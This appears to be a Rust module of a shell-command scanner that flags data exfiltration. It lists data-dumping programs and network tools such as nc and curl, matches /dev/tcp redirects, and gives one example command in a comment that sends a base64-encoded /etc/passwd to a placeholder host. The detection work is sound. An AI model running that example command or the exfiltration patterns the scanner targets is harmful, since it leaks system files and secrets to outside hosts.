//! Exfiltration of files, traffic, and variables (<https://attack.mitre.org/techniques/T1048/>).

use super::download::is_fetch;
use super::parse::{Command, pipeline_text};
use super::{FoundSigns, Kind};
use crate::text::contains;

/// Programs whose output is worth stealing.
const SOURCES: [&str; 12] = [
    "cat",
    "dd",
    "env",
    "mongodump",
    "mysqldump",
    "pg_dump",
    "pg_dumpall",
    "printenv",
    "tar",
    "tcpdump",
    "tshark",
    "zip",
];

pub(super) fn find(commands: &[Command], found: &mut FoundSigns) {
    for command in commands {
        let sends = match command.name.as_str() {
            "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "telnet" => {
                sends_file(command) || is_fed(commands, command, &SOURCES)
            }
            // `cat` is left out, since metrics are sent so: `cat metrics | curl ...`.
            "curl" if sends_input(command) => {
                let [_, sources @ ..] = &SOURCES;
                is_fed(commands, command, sources)
            }
            name if is_fetch(name) && names_contents(command) => true,
            name => SOURCES.contains(&name) && writes_device(command),
        };
        if sends {
            found.add(Kind::DataSent, pipeline_text(commands, command.pipeline));
        }
    }
}

fn is_fed(commands: &[Command], command: &Command, sources: &[&str]) -> bool {
    command.piped_into
        && commands.iter().any(|other| {
            other.pipeline == command.pipeline && sources.contains(&other.name.as_str())
        })
}

fn sends_file(command: &Command) -> bool {
    command.redirects.iter().any(|from| {
        from.operator == "<" && from.target.starts_with('/') && !contains(&from.target, "/dev/")
    })
}

/// Returns whether a command sends its input: `curl -d @-`, `curl -T -`.
fn sends_input(command: &Command) -> bool {
    command
        .arguments()
        .any(|word| word == "-" || word.ends_with("@-") || word.ends_with("=-"))
}

/// Returns whether a URL contains data: `curl http://HOST/?x=$(cat /etc/passwd | base64)`.
fn names_contents(command: &Command) -> bool {
    command.arguments().any(|word| {
        let is_built = contains(word, "$(") || contains(word, "`");
        contains(word, "://")
            && is_built
            && ["cat ", "base64", "$(env", "`env", "printenv"]
                .iter()
                .any(|source| contains(word, source))
    })
}

fn writes_device(command: &Command) -> bool {
    let is_empty = command.arguments().all(|word| word == "/dev/null");
    !is_empty
        && command
            .redirects
            .iter()
            .any(|to| to.writes() && contains(&to.target, "/dev/tcp/"))
}
